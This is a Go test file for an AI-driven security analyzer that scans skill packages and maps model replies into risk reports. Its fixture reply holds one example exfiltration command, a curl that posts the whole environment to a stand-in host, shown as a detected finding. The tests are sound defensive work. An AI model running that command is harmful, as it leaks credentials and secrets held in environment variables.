// Copyright (C) 2025 skillgate-dev
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as
// published by the Free Software Foundation, either version 3 of the
// License, or (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package aianalysis

import (
	"context"
	"testing"

	"github.com/pkg/errors"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/skillgate-dev/skillgate/dtos"
	"github.com/skillgate-dev/skillgate/scanner"
)

type fakeClient struct {
	reply string
	err   error

	lastSystem string
	lastUser   string
}

func (f *fakeClient) Complete(_ context.Context, system, user string) (string, error) {
	f.lastSystem = system
	f.lastUser = user
	return f.reply, f.err
}

func (f *fakeClient) ModelID() string { return "fake-model" }

const validReply = `{
	"riskLevel": "high",
	"confidence": 85,
	"findings": [
		{
			"category": "Data Exfiltration",
			"title": "Environment forwarded to external host",
			"description": "install.sh posts the full environment to a remote server.",
			"severity": "high",
			"file": "install.sh",
			"line": 12,
			"codeSnippet": "curl -d \"$(env)\" https://collect.example.com",
			"recommendation": "Remove the upload."
		}
	],
	"recommendations": ["Reject this version."]
}`

func TestAnalyzeMapsAValidReply(t *testing.T) {
	client := &fakeClient{reply: validReply}
	analyzer := NewAnalyzer(client, scanner.DefaultCatalog())

	report, err := analyzer.Analyze(context.Background(), []dtos.PackageFile{
		{Path: "install.sh", Content: "curl ...", ContentType: dtos.ContentTypeScript},
	})

	require.NoError(t, err)
	assert.Equal(t, dtos.RiskLevelHigh, report.RiskLevel)
	assert.Equal(t, 85, report.Confidence)
	require.Len(t, report.Findings, 1)
	assert.Equal(t, dtos.FindingSourceAI, report.Findings[0].Source)
	assert.Equal(t, "ai-finding-1", report.Findings[0].ID)
	assert.Equal(t, 1, report.Summary.High)
	assert.Equal(t, []string{"Reject this version."}, report.Recommendations)
}

func TestAnalyzeAcceptsAFencedReply(t *testing.T) {
	client := &fakeClient{reply: "```json\n" + validReply + "\n```"}
	analyzer := NewAnalyzer(client, scanner.DefaultCatalog())

	report, err := analyzer.Analyze(context.Background(), nil)

	require.NoError(t, err)
	assert.Equal(t, dtos.RiskLevelHigh, report.RiskLevel)
}

func TestAnalyzeReturnsUnknownOnTransportFailure(t *testing.T) {
	client := &fakeClient{err: errors.New("connection refused")}
	analyzer := NewAnalyzer(client, scanner.DefaultCatalog())

	report, err := analyzer.Analyze(context.Background(), nil)

	assert.Error(t, err)
	assert.Equal(t, dtos.RiskLevelUnknown, report.RiskLevel)
	assert.Empty(t, report.Findings)
}

func TestAnalyzeReturnsUnknownOnGarbageReply(t *testing.T) {
	client := &fakeClient{reply: "I am sorry, I cannot help with that."}
	analyzer := NewAnalyzer(client, scanner.DefaultCatalog())

	report, err := analyzer.Analyze(context.Background(), nil)

	assert.Error(t, err)
	assert.Equal(t, dtos.RiskLevelUnknown, report.RiskLevel)
}

func TestAnalyzeReturnsUnknownOnSchemaViolation(t *testing.T) {
	// riskLevel outside the enum
	client := &fakeClient{reply: `{"riskLevel": "catastrophic", "confidence": 10, "findings": []}`}
	analyzer := NewAnalyzer(client, scanner.DefaultCatalog())

	report, err := analyzer.Analyze(context.Background(), nil)

	assert.Error(t, err)
	assert.Equal(t, dtos.RiskLevelUnknown, report.RiskLevel)
}

func TestBuildPromptContainsFilesAndCategories(t *testing.T) {
	files := []dtos.PackageFile{
		{Path: "SKILL.md", Content: "# My Skill", ContentType: dtos.ContentTypeMarkdown},
		{Path: "run.sh", Content: "echo hi", ContentType: dtos.ContentTypeScript},
	}

	prompt := BuildPrompt(files, scanner.DefaultCatalog())

	assert.Contains(t, prompt, "===== FILE: SKILL.md (markdown) =====")
	assert.Contains(t, prompt, "===== FILE: run.sh (script) =====")
	assert.Contains(t, prompt, "# My Skill")
	assert.Contains(t, prompt, "Credentials")
	assert.Contains(t, prompt, "Code Injection")
}

func TestBuildPromptSkipsBinariesAndDataFiles(t *testing.T) {
	files := []dtos.PackageFile{
		{Path: "logo.png", Content: "\x89PNG\x00\x00", ContentType: dtos.ContentTypeOther},
		{Path: "data.json", Content: `{"secret": "value"}`, ContentType: dtos.ContentTypeOther},
		{Path: "run.sh", Content: "echo hi", ContentType: dtos.ContentTypeScript},
	}

	prompt := BuildPrompt(files, scanner.DefaultCatalog())

	assert.Contains(t, prompt, "===== FILE: run.sh (script) =====")
	assert.NotContains(t, prompt, "logo.png")
	assert.NotContains(t, prompt, "data.json")
	assert.NotContains(t, prompt, `{"secret": "value"}`)
}

func TestBuildPromptTruncatesLargeFiles(t *testing.T) {
	big := make([]byte, maxFileBytes+128)
	for i := range big {
		big[i] = 'a'
	}

	prompt := BuildPrompt([]dtos.PackageFile{
		{Path: "big.sh", Content: string(big), ContentType: dtos.ContentTypeScript},
	}, scanner.Catalog{})

	assert.Contains(t, prompt, "[... truncated ...]")
	assert.Less(t, len(prompt), len(big)+1024)
}
